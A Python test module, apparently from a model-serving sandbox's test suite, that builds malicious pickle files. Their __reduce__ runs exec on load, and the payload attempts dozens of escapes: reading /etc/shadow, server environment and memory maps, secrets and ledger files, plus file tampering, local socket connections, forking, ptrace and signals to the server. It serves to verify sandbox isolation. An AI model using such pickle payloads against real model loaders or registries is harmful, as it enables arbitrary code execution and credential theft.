"""Pickles that do not predict but attack, as whoever may register a version could write them.

Each runs a source of Python when it is loaded. What it finds comes back as the text of the error that it raises.
"""

import pickle
from collections.abc import Mapping
from pathlib import Path


class Attack:
    """Pickles to a call of `exec`."""

    def __init__(self, source: str) -> None:
        self._source = source

    def __reduce__(self) -> tuple[object, tuple[str, dict[str, str]]]:
        return exec, (self._source, {"__name__": "attack"})


def write(folder: Path, source: str) -> Path:
    """Return the file of a pickle that runs a source."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "model.pkl"
    path.write_bytes(pickle.dumps(Attack(source)))
    return path


REACHING = """
import ctypes, mmap, os, resource, signal, socket, subprocess, tempfile, threading
libc = ctypes.CDLL(None, use_errno=True)

def call(name, *arguments):
    assert getattr(libc, name)(*arguments) >= 0

def read(path):
    open(path, "rb").read(1)

def connect(family, kind, address):
    with socket.socket(family, kind) as made:
        made.connect(address)

def grow():
    libc.mmap.restype = ctypes.c_void_p
    assert libc.mmap(None, 4096, 3, 0x122, -1, 0) != 2**64 - 1

def fork():
    if os.fork() == 0:
        os._exit(0)
    os.wait()

def limit_of(pid):
    resource.prlimit(pid, resource.RLIMIT_NOFILE)

tried = {
    "environment of the server": lambda: read(f"/proc/{SERVER}/environ"),
    "memory of the server": lambda: read(f"/proc/{SERVER}/maps"),
    "own environment": lambda: os.environ[SECRET],
    "ledger": lambda: read(LEDGER),
    "blob": lambda: read(BLOB),
    "data folder": lambda: os.listdir(DATA),
    "home": lambda: os.listdir(HOME),
    "temporary files": lambda: os.listdir("/tmp"),
    "folders of other jobs": lambda: os.listdir(".."),
    "shadow": lambda: read("/etc/shadow"),
    "root": lambda: os.listdir("/"),
    "write to blob": lambda: open(BLOB, "ab").close(),
    "write beside": lambda: open("beside", "w").write("x"),
    "write to features": lambda: open("features.arrow", "r+").write("x"),
    "write to tmp": lambda: tempfile.TemporaryFile().write(b"x"),
    "write to shm": lambda: open("/dev/shm/modelward-attack", "w").write("x"),
    "fifo": lambda: os.mkfifo("fifo"),
    "link": lambda: os.symlink(LEDGER, "link"),
    "tcp": lambda: connect(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
    "udp": lambda: connect(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT)),
    "unix": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, UNIX),
    "abstract": lambda: connect(socket.AF_UNIX, socket.SOCK_STREAM, ABSTRACT),
    "datagram": lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"x", DATAGRAM),
    "mode of the ledger": lambda: os.chmod(LEDGER, 0o600),
    "owner of the ledger": lambda: os.chown(LEDGER, os.geteuid(), os.getegid()),
    "times of the ledger": lambda: os.utime(LEDGER),
    "attribute of the ledger": lambda: os.setxattr(LEDGER, "user.x", b"x"),
    "cut off": lambda: os.truncate(SPARE, 0),
    "cut off Python": lambda: os.close(os.open(PYTHON, os.O_RDONLY | os.O_TRUNC)),
    "remove": lambda: os.remove(SPARE),
    "watch": lambda: call("inotify_add_watch", libc.inotify_init(), DATA.encode(), 2),
    "listen": lambda: socket.socket(socket.AF_INET).bind(("127.0.0.1", 0)),
    "fork": fork,
    "vfork": lambda: subprocess.run(["true"], check=True),
    "spawn": lambda: os.waitpid(os.posix_spawn("/bin/true", ["true"], {}), 0),
    "shared memory": lambda: mmap.mmap(-1, 4096),
    "growing memory": grow,
    "memfd": lambda: os.memfd_create("x"),
    "system v memory": lambda: call("shmget", 0, 4096, 0o1600),
    "message queue": lambda: call("msgget", 0, 0o1600),
    "signal to the server": lambda: os.kill(PEER, 0),
    "signal to the parent": lambda: os.kill(os.getppid(), 0),
    "signal to all": lambda: os.killpg(PEER, 0),
    "trace": lambda: call("ptrace", 0x4206, PEER, 0, 0),
    "limits of the server": lambda: limit_of(PEER),
    "priority of the server": lambda: os.setpriority(os.PRIO_PROCESS, PEER, 5),
    "affinity of the server": lambda: os.sched_setaffinity(PEER, {0}),
    "descriptor of a process": lambda: os.close(os.pidfd_open(PEER)),
    "own name space": lambda: call("unshare", 0x10000000),
    "core": lambda: resource.setrlimit(resource.RLIMIT_CORE, (1, 1)),
    "files": lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (1, 1)),
}
done = []
for name, action in tried.items():
    try:
        action()
        done.append(name)
    except BaseException:
        pass
"""
"""Tries everything that must not work; `done` names what did."""


def assigned(known: Mapping[str, object]) -> str:
    return "\n".join(f"{name} = {value!r}" for name, value in known.items())


def reaching(known: Mapping[str, object]) -> str:
    """Return the source that tells what of all it could reach, given what an attacker might know or guess."""
    return f"{assigned(known)}\n{REACHING}\nraise RuntimeError('reached: ' + (', '.join(done) or 'nothing'))"


ANSWERING = """
import os
def answer(content):
    import socket
    made = socket.socket(fileno=os.dup(0))
    made.sendall(content)
"""


def answering(expression: str, ending: str = "os._exit(0)") -> str:
    """Return the source that answers for the model what an expression gives, and then ends."""
    return f"{ANSWERING}\nanswer({expression})\n{ending}"
